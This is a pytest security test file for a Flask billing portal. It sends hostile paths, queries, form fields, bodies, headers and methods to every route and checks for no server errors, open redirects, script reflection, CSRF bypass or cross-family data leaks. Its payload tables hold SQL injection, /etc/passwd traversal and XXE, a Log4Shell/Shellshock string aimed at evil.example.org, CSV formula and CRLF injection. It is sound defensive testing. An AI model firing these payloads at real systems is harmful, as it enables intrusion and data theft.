"""Hostile input on every address: a clear page or status, never a 500, and nothing changed.

The tables come from the site's own addresses: one that `tests/stage.py` does not declare fails.
"""

import gzip
import io
import json
from typing import Any
from urllib.parse import quote

import pytest
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.test import EnvironBuilder, TestResponse

from kiosque.db import database, write
from kiosque.db.models import Family
from kiosque.families import tokens
from kiosque.staff.roles import Role
from tests import fresh_databases
from tests.agents import enter, make_agent
from tests.conftest import PASSWORD, SignIn, choose_password, csrf_token
from tests.stage import FAMILY, PAGES, PUBLIC, SERVER, STAFF, Stage

#: Tables that a visit may write: who came, how often, what the bank was answered, and files that an
#: agent deposits, whatever they are.
TRACES = {
    "session", "throttle", "security_event", "bank_message", "message_count", "reset_request",
    "sqlite_sequence", "staff_session", "staff_event", "upload",
}  # fmt: skip

VALUES = {
    "ten kilobytes": "F" * 10_000,
    "emoji": "😀👨‍👩‍👧‍👦" * 20,
    "NUL": "F1001\0",
    "a megabyte": "x" * 1_000_000,
    "a lone surrogate": "\ud800",
    "a reversed text": "\u202eF1001\u200b\ufeff",
    "combining marks": "e" + "\u0301" * 500,
    "minus one": "-1",
    "zero": "0",
    "2^63": str(2**63),
    "2^64 more": "9" * 400,
    "an exponent": "1e309",
    "not a number": "NaN",
    "other figures": "١٢٣",
    "CR LF": "x\r\nSet-Cookie: a=b\r\n\r\n<b>",
    "a line separator": "x\u2028y\u0085z",
    "another site": "//evil.example.org",
    "its script": "javascript:alert(1)",
    "a tag": '"><script>alert(1)</script>',
    "a template": "{{7*7}}${7*7}%(x)s{0}",
    "SQL": "' OR 1=1; DROP TABLE invoice;--",
    "a path": "../../../../etc/passwd",
    "a Windows path": "..\\..\\kiosque.toml",
    "per cent": "%00%s%n%ff",
    "nothing": "",
    "blanks": " \t\u00a0 ",
    "a formula": "=cmd|' /C calc'!A0",
    "a JSON": '{"$ne": null}',
}
PATHS = {
    **{name: quote(value[:3000].encode(errors="surrogatepass")) for name, value in VALUES.items()},
    "two bytes that are no text": "%ff%fe",
    "an overlong slash": "..%c0%af..%c0%af",
    "a NUL alone": "%00",
    "a per cent alone": "%",
    "dots": "%2e%2e/%2e%2e/",
    "twice encoded": "%252e%252e%252f",
    "a semicolon": ";jsessionid=1",
    "a slash more": "x/y//z/",
}
RAW_BODIES: dict[str, tuple[str, bytes]] = {
    "JSON": ("application/json", json.dumps({"code": "F1001", "csrf_token": ["x"]}).encode()),
    "XML": ("application/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    "no type": ("", b"code=F1001"),
    "a garbled type": ("\xff;;=;boundary", b"code=F1001"),
    "an unknown charset": ("application/x-www-form-urlencoded; charset=utf-7", b"code=+AGE-"),
    "no text": ("application/x-www-form-urlencoded", b"code=\xff\xfe&\xc0\xaf=%ff%zz"),
    "gzip": ("application/x-www-form-urlencoded", gzip.compress(b"code=F1001")),
    "64 KiB and 1": ("application/x-www-form-urlencoded", b"code=" + b"x" * (65_537 - 5)),
    "multipart with no end": ("multipart/form-data; boundary=b", b"--b\r\nContent-Disposition: f"),
    "multipart with no boundary": ("multipart/form-data", b"--\r\n\r\n"),
}
#: Long to read, and read by one line for all addresses but two, before their view.
LONG_BODIES: dict[str, tuple[str, bytes]] = {
    "10 000 fields": (
        "application/x-www-form-urlencoded",
        b"&".join(b"a%d=" % i for i in range(10_000)),
    ),
    "only separators": ("application/x-www-form-urlencoded", b"&=;" * 20_000),
    "2 000 parts": (
        "multipart/form-data; boundary=b",
        b"".join(
            b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n' for _ in range(1_200)
        ) + b"--b--",
    ),
}  # fmt: skip
READ_ON_THEIR_OWN = {"office.deposit", "notification.receive"}
HEADERS = {
    "forged hosts": {
        "X-Forwarded-Host": "evil.example.org",
        "X-Forwarded-For": "127.0.0.1, '; DROP TABLE invoice;--",
        "X-Forwarded-Proto": "https",
        "X-Forwarded-Prefix": "//evil.example.org",
        "X-Real-IP": "127.0.0.1",
        "Forwarded": "for=127.0.0.1;host=evil.example.org;proto=https",
    },
    "another method": {"X-HTTP-Method-Override": "DELETE", "X-Method-Override": "PUT"},
    "another address": {"X-Original-URL": "/factures", "X-Rewrite-URL": "/compte"},
    "an odd language": {"Accept-Language": "../../etc/passwd;q=é, *;q=x, " + "zz," * 2000},
    "odd ranges": {"Range": "bytes=0-,0-,99999999999999999999-", "If-Range": '"x'},
    "odd conditions": {
        "If-None-Match": '"' * 999,
        "If-Modified-Since": "Thu, 99 Foo 99999 99:99:99",
    },
    "a broken cookie": {"Cookie": 'kiosque=\xff; kiosque="\\000; =; ' + "a=b;" * 500},
    "an odd agent": {"User-Agent": "() { :;}; echo x; ${jndi:ldap://evil.example.org}"},
    "a wrong password": {"Authorization": "Basic \xff\xfe=="},
}
METHODS = (
    "GET", "HEAD", "OPTIONS", "POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND",
    "get", "É", "X" * 500,
)  # fmt: skip
#: An e-mail for the receipt is optional: without one, a payment rightly begins.
#: A file of any kind may be deposited: it is then read, and refused; a table of the bank's is asked
#: about.
DEPOSITS = {("office.deposit", "file", "a file"), ("office.load_statement", "file", "a file")}
OPTIONAL = ("payment.bank", "email")


def test_every_address_of_the_site_is_declared(stage: Stage) -> None:
    """Add a new page or action to `tests/stage.py`: these tests then try it."""
    assert {rule.endpoint for rule in stage.rules()} == set(PAGES)


def everything() -> dict[str, list[Any]]:
    """Return all that the database holds, apart from traces of visits."""
    return fresh_databases.rows(without=TRACES)


class Attack:
    """Sends what it is given, as a visitor who holds the right token, and judges the answer."""

    def __init__(self, stage: Stage, client: FlaskClient, pages: list[str]) -> None:
        self.pages = pages
        self.stage = stage
        self.client = client
        self.before = everything()
        self.seen: set[int] = set()
        self._tokens: dict[bool, str] = {}

    def send(self, what: object, address: str, **request: Any) -> TestResponse:
        """The answer, once judged; reports `what` was sent when it is a fault."""
        answer = self.client.open(address, **request)
        body = answer.data
        answer.close()
        assert answer.status_code < 500, what
        location = answer.headers.get("Location", "/")
        assert location.startswith("/"), what
        assert not location.startswith(("//", "/\\")), what
        assert not answer.headers.get("Set-Cookie", "").startswith("a="), what
        assert b"<script>alert" not in body, what
        assert b"Traceback" not in body, what
        if answer.status_code in (422, 429):  # a try of a password: the next one must not wait
            database.execute_sql("DELETE FROM throttle")
        self.seen.add(answer.status_code)
        return answer

    def unchanged(self, what: object) -> None:
        """Assert that the database holds what it held before."""
        assert everything() == self.before, what

    def actions(self) -> list[str]:
        """The pages that something is posted to."""
        return [each for each in self.pages if each in actions(self.stage)]

    def form(self, endpoint: str, **changes: object) -> dict[str, object]:
        area = is_office(endpoint)
        self._tokens[area] = self._tokens.get(area) or token_of(self.client, endpoint)
        return {**self.stage.page(endpoint).form, "csrf_token": self._tokens[area], **changes}


def is_office(endpoint: str) -> bool:
    return endpoint.startswith("office.")


def token_of(client: FlaskClient, endpoint: str) -> str:
    """The token that this visitor's forms carry in the area of a page."""
    pages = ("/mairie/code", "/mairie/mon-acces", "/mairie/connexion")
    for page in pages if is_office(endpoint) else ("/compte", "/connexion"):
        if token := csrf_token(client.get(page).text):
            return token
    return ""


#: For what is long to try: Alice in `make test`.
IN_PROOF = pytest.mark.parametrize(
    "attack",
    ["alice", *(pytest.param(who, marks=pytest.mark.proof) for who in ("stranger", "agent"))],
    indirect=True,
)


@pytest.fixture(params=["stranger", "alice", "agent"])
def attack(request: pytest.FixtureRequest, stage: Stage) -> Attack:
    """Signed out, on every page; signed in as the owner of what is there to be changed, or as who
    decides on agents, on those of each one's area."""
    if request.param == "agent":
        agents = [make_agent(role, "tout@sautron.example.org") for role in Role]
        return Attack(
            stage, enter(stage.app, agents[-1]), [each for each in PAGES if is_office(each)]
        )
    pages = [each for each in PAGES if request.param == "stranger" or not is_office(each)]
    return Attack(stage, request.getfixturevalue(request.param), pages)


def test_a_fault_would_be_seen(attack: Attack) -> None:
    def broken() -> str:
        raise ValueError

    attack.stage.app.view_functions["site.privacy"] = broken
    with pytest.raises(AssertionError):
        attack.send("a 500", "/confidentialite")
    Family.update(name="Changée").execute()
    with pytest.raises(AssertionError):
        attack.unchanged("a row")


@pytest.mark.slow
@IN_PROOF
def test_hostile_paths(attack: Attack) -> None:
    for endpoint in attack.pages:
        page = PAGES[endpoint]
        for name in page.path:
            for kind, value in PATHS.items():
                pattern = attack.stage.address(endpoint, **{name: "7777"})
                address = pattern.replace("7777", value)
                path, _, query = address.partition("?")
                attack.send((endpoint, kind), raw_environ(page.method, path, query))
        attack.unchanged(endpoint)
    assert attack.seen <= {302, 303, 400, 404, 405}
    assert len(attack.seen) > 1


def raw_environ(method: str, path: str, query: str = "") -> dict[str, Any]:
    """A request as a server hands it over: the path's bytes as they came."""
    from urllib.parse import unquote_to_bytes  # noqa: PLC0415

    environ = EnvironBuilder(
        path="/", method=method, base_url="http://127.0.0.1:8000"
    ).get_environ()
    environ["PATH_INFO"] = unquote_to_bytes(path).decode("latin-1")
    environ["QUERY_STRING"] = query
    environ["RAW_URI"] = environ["REQUEST_URI"] = path
    return environ


@pytest.mark.slow
@IN_PROOF
def test_hostile_queries(attack: Attack) -> None:
    for endpoint in attack.pages:
        page, address = attack.stage.page(endpoint), attack.stage.address(endpoint)
        for name in page.query or ("x",):
            for kind, value in VALUES.items():
                text = quote(value[:8000].encode(errors="surrogatepass"))
                query = f"{name}={text}&{name}[]={text}&{text}={name}"
                attack.send((endpoint, name, kind), raw_environ("GET", address, query))
            for query in (f"{name}=%ff%fe&%c0%af&&=&=", "&".join([f"{name}=1"] * 500)):
                attack.send((endpoint, name), raw_environ("GET", address, query))
        attack.unchanged(endpoint)
    assert attack.seen <= {200, 302, 400, 404, 405, 409}
    assert len(attack.seen) > 2


@pytest.mark.slow
@IN_PROOF
def test_hostile_fields(attack: Attack) -> None:
    for endpoint in attack.actions():
        page, address = attack.stage.page(endpoint), attack.stage.address(endpoint)
        for name in page.form:
            optional = (endpoint, name) == OPTIONAL
            for kind, value in VALUES.items():
                if optional and not value.strip():
                    continue
                hostile = value.encode(errors="surrogatepass")
                data = attack.form(endpoint, **{name: hostile})
                attack.send((endpoint, name, kind), address, method="POST", data=data)
            for what, change in {
                "twice": {name: ["\0", page.form[name]]},
                "a list": {name: [], f"{name}[]": page.form[name]},
                "a file": {name: (io.BytesIO(b"x"), "../x.php")},
            }.items():
                stores = (endpoint, name, what) in DEPOSITS
                if not stores and (not optional or what == "twice"):
                    data = attack.form(endpoint, **change)
                    attack.send((endpoint, name, what), address, method="POST", data=data)
        attack.unchanged(endpoint)
    # An act that a person would change is shown again.
    assert attack.seen <= {200, 302, 303, 400, 404, 409, 413, 422}
    # Each was judged by its own page: refused there, or sent to sign in.
    assert attack.seen >= {409, 422} or attack.seen >= {302, 422}


#: The doors behind which a new password is judged, each with its own proof of who asks.
DOORS = ("/activer", "/mot-de-passe/nouveau", "/compte/mot-de-passe")
NEW_PASSWORDS = {
    **VALUES,
    "a thousand": "x😀" * 500,
    "a thousand and one": "x😀" * 500 + "x",
    "signs for letters": "![9200(%[@3(+26$4|{565$<@<787+31",
    "two ways to write": "e\u0301t\u00e9 au bord de la me\u0301r",
    "one character in four": "\U0001d160" * 400,
}


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize("kind", NEW_PASSWORDS)
def test_a_hostile_new_password_is_refused_or_opens(
    app: Flask, alices_family: Family, door: str, kind: str
) -> None:
    """Past the door: with the letter's code, the mail's link, the present password."""
    alices_family.email = "alice@example.org"
    alices_family.save()
    choose_password(alices_family)
    with write():
        tokens.issue_code(alices_family, "abcde-fghjk-mnpqr")
        link = tokens.prepare_link(tokens.Purpose.RESET, alices_family, "alice@example.org")
    client = app.test_client()
    if door == "/mot-de-passe/nouveau":
        client.get(f"/lien/{tokens.draw_link(link.id)}")
    if door == "/compte/mot-de-passe":
        sign_in(client, PASSWORD.encode())
    typed = NEW_PASSWORDS[kind].encode(errors="surrogatepass")
    data = {"code": "F1001", "activation": "abcde-fghjk-mnpqr", "current": PASSWORD, "new": typed}
    answer = client.post(door, data={**data, "csrf_token": csrf_token(client.get(door).text)})
    assert answer.status_code in (302, 413, 422)
    assert "Traceback" not in answer.text
    taken = answer.status_code == 302
    assert sign_in(app.test_client(), typed) == (302 if taken else answer.status_code)
    assert (sign_in(app.test_client(), PASSWORD.encode()) == 302) is not taken


def sign_in(client: FlaskClient, password: bytes) -> int:
    token = csrf_token(client.get("/connexion").text)
    data = {"code": "F1001", "password": password, "csrf_token": token}
    return client.post("/connexion", data=data).status_code


def actions(stage: Stage) -> list[str]:
    """The pages that something is posted to."""
    return [rule.endpoint for rule in stage.rules() if "POST" in (rule.methods or ())]


@pytest.mark.slow
@IN_PROOF
@pytest.mark.parametrize(
    "headers", [{}, {"Content-Encoding": "gzip"}, {"Transfer-Encoding": "chunked"}], ids=str
)
def test_hostile_bodies(attack: Attack, headers: dict[str, str]) -> None:
    for endpoint in ("family.invoices", *attack.actions()):
        address = attack.stage.address(endpoint)
        long = endpoint in {*READ_ON_THEIR_OWN, *attack.actions()[:2]}
        for kind, (content_type, body) in (RAW_BODIES | (LONG_BODIES if long else {})).items():
            attack.send(
                (endpoint, kind),
                address,
                method="POST",
                input_stream=io.BytesIO(body),
                headers=headers,
                environ_overrides={"CONTENT_TYPE": content_type, "wsgi.input_terminated": True},
            )
        attack.unchanged(endpoint)
    assert {400, 413} <= attack.seen


def test_hostile_lengths(attack: Attack) -> None:
    for endpoint in ("family.invoices", *attack.actions()):
        address = attack.stage.address(endpoint)
        for length in ("-1", "x", "1e9", "99999999999999999999", "0", ""):
            attack.send(
                (endpoint, "length", length),
                address,
                method="POST",
                data={"a": "b"},
                environ_overrides={"CONTENT_LENGTH": length},
            )
        attack.unchanged(endpoint)
    assert 400 in attack.seen


class ServersOwn(Exception):
    """An error that a server's parser may raise while a body is read."""


@pytest.mark.parametrize("error", [OSError, ServersOwn])
def test_a_body_that_breaks_off(attack: Attack, error: type[Exception]) -> None:
    class Broken(io.BytesIO):
        def read(self, *_size: object) -> bytes:
            raise error

        readinto = readline = read

    form = {"CONTENT_TYPE": "application/x-www-form-urlencoded", "CONTENT_LENGTH": "100"}
    for endpoint in attack.actions():
        for stream in (Broken(), io.BytesIO(b"code=")):
            answer = attack.send(
                endpoint,
                attack.stage.address(endpoint),
                method="POST",
                input_stream=stream,
                environ_overrides=form,
            )
            assert answer.status_code == 400, endpoint
        attack.unchanged(endpoint)


@pytest.mark.slow
@IN_PROOF
def test_hostile_headers(attack: Attack) -> None:
    for endpoint in attack.pages:
        page = PAGES[endpoint]
        for kind, headers in HEADERS.items():
            extra = {f"HTTP_{name.upper().replace('-', '_')}": v for name, v in headers.items()}
            for method in {"GET", page.method}:
                attack.send(
                    (endpoint, kind, method),
                    attack.stage.address(endpoint),
                    method=method,
                    environ_overrides=extra,
                )
        attack.unchanged(endpoint)


@pytest.mark.slow
@IN_PROOF
def test_methods_that_no_page_takes(attack: Attack) -> None:
    taken: dict[str, set[str]] = {}
    for rule in attack.stage.rules():
        taken.setdefault(rule.rule, set()).update(rule.methods or ())
    for rule in attack.stage.rules():
        address = attack.stage.address(rule.endpoint)
        for method in METHODS:
            answer = attack.send((rule.endpoint, method), address, method=method)
            if method.upper() not in taken[rule.rule]:
                assert answer.status_code == 405, (rule.endpoint, method)
        attack.unchanged(rule.endpoint)


def test_no_action_is_taken_without_this_visitors_own_token(app: Flask, attack: Attack) -> None:
    theirs = csrf_token(app.test_client().get("/connexion").text)
    for endpoint in attack.actions():
        if PAGES[endpoint].audience == SERVER:
            continue
        own = token_of(attack.client, endpoint)
        for token in (None, "", "x", theirs, own + "x", "é", "\0"):
            fields = {**attack.stage.page(endpoint).form, "csrf_token": token}
            data = {name: value for name, value in fields.items() if value is not None}
            answer = attack.send(
                (endpoint, token), attack.stage.address(endpoint), method="POST", data=data
            )
            led_to_sign_in = (
                PAGES[endpoint].audience in (FAMILY, STAFF) and answer.status_code == 302
            )
            assert led_to_sign_in or answer.status_code == 400, (endpoint, token)
        attack.unchanged(endpoint)


# --- Alice owns, Charlie must see nothing ---


def visit(stage: Stage, endpoint: str, client: FlaskClient) -> TestResponse:
    """Open the page with what is Alice's, as that visitor."""
    page = stage.page(endpoint)
    data = None
    if page.method == "POST":
        data = {**page.form, "csrf_token": token_of(client, endpoint)}
    return client.open(
        stage.address(endpoint), method=page.method, query_string=dict(page.query), data=data
    )


@pytest.mark.slow
@pytest.mark.parametrize("audience", [PUBLIC, FAMILY, SERVER, STAFF])
def test_what_is_alices_opens_to_nobody_else(
    stage: Stage, sign_in: SignIn, alices_family: Family, charlies_family: Family, audience: str
) -> None:
    stranger = stage.app.test_client()
    for endpoint in (each for each in PAGES if PAGES[each].audience == audience):
        page = stage.page(endpoint)
        # Anew each time: some of these actions end a session.
        alice, charlie = sign_in(alices_family), sign_in(charlies_family)
        before = everything()
        if audience == FAMILY:
            answer = visit(stage, endpoint, stranger)
            assert answer.location.startswith("/connexion"), endpoint
        if audience == STAFF:
            for client in (stranger, alice, charlie):
                led_to = visit(stage, endpoint, client).location
                assert led_to.startswith("/mairie/connexion"), endpoint
        theirs = visit(stage, endpoint, charlie)
        if page.charlie is not None:
            assert theirs.status_code == page.charlie, endpoint
        assert theirs.status_code < 500, endpoint
        if page.words:
            assert page.words not in theirs.text, endpoint
            signed_out = visit(stage, endpoint, stranger)
            assert signed_out.status_code == 302 or page.words not in signed_out.text, endpoint
        theirs.close()
        assert everything() == before, endpoint


@pytest.mark.parametrize("endpoint", [each for each in PAGES if PAGES[each].audience != STAFF])
def test_what_is_alices_opens_to_her(stage: Stage, alice: FlaskClient, endpoint: str) -> None:
    page, hers = stage.page(endpoint), visit(stage, endpoint, alice)
    assert hers.status_code == page.status
    assert page.words in (hers.text if page.words else "")
    hers.close()


def test_every_page_that_names_something_says_what_charlie_gets() -> None:
    silent = [
        endpoint
        for endpoint, page in PAGES.items()
        if page.audience == FAMILY and page.path and page.charlie is None
    ]
    assert not silent
    assert {page.audience for page in PAGES.values()} == {PUBLIC, FAMILY, SERVER, STAFF}
